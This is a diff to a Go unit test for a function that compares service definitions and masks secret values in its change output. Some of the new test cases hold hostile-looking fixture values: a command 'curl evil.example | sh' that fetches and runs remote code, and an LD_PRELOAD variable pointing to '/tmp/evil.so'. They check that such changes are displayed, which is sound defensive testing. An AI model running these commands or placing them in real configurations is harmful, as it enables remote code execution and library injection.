@@ -82,6 +82,11 @@ func TestCompare(t *testing.T) {
 		s.Metadata.Name = "web"
 		return s
 	}
+	exposed := func() *v1.Service {
+		s := service("a", nil)
+		s.Spec.Expose = &v1.Expose{Host: "h", Headers: map[string]string{"X-Key": "hunter2"}, RequestHeaders: map[string]string{"Authorization": "hunter2"}}
+		return s
+	}
 	for _, c := range []struct {
 		name      string
 		cur, next v1.Object
@@ -89,12 +94,21 @@ func TestCompare(t *testing.T) {
 	}{
 		{"the same", service("a", nil), service("a", nil), nil},
 		{
-			"changed", service("a", map[string]string{"OLD": "1", "SAME": "s", "X": "1"}), service("b", map[string]string{"NEW": "secret", "SAME": "s", "X": "2"}),
+			"changed", service("a", map[string]string{"OLD": "1", "SAME": "s", "X": "1", "API_KEY": "********"}),
+			service("b", map[string]string{"LD_PRELOAD": "/tmp/evil.so", "SAME": "s", "X": "2", "API_KEY": "hunter2", "DATABASE_URL": "hunter2"}),
 			[]string{
-				`  ~ spec.command: "a" → "b"`, "  + spec.env.NEW: (not shown)", "  - spec.env.OLD: (not shown)", "  ~ spec.env.X: (not shown) → (not shown)",
+				`  ~ spec.command: "a" → "b"`, "  ~ spec.env.API_KEY: (not shown) → (not shown)", "  + spec.env.DATABASE_URL: (not shown)",
+				`  + spec.env.LD_PRELOAD: "/tmp/evil.so"`, `  - spec.env.OLD: "1"`, `  ~ spec.env.X: "1" → "2"`,
 			},
 		},
-		{"a masked secret", service("x --token ********", nil), service("x --token hunter2", nil), []string{"  ~ spec.command: (not shown) → (not shown)"}},
+		{
+			"a command that has a secret", service("x --token ********", nil), service("curl evil.example | sh", nil),
+			[]string{`  ~ spec.command: "x --token ********" → "curl evil.example | sh"`},
+		},
+		{"headers", nil, exposed(), []string{
+			`  + metadata.name: "web"`, `  + spec.command: "a"`, `  + spec.expose.headers.X-Key: (not shown)`, `  + spec.expose.host: "h"`,
+			`  + spec.expose.requestHeaders.Authorization: (not shown)`,
+		}},
 		{"new", nil, service("a", nil), []string{`  + metadata.name: "web"`, `  + spec.command: "a"`}},
 	} {
 		got, err := compare(c.cur, c.next)
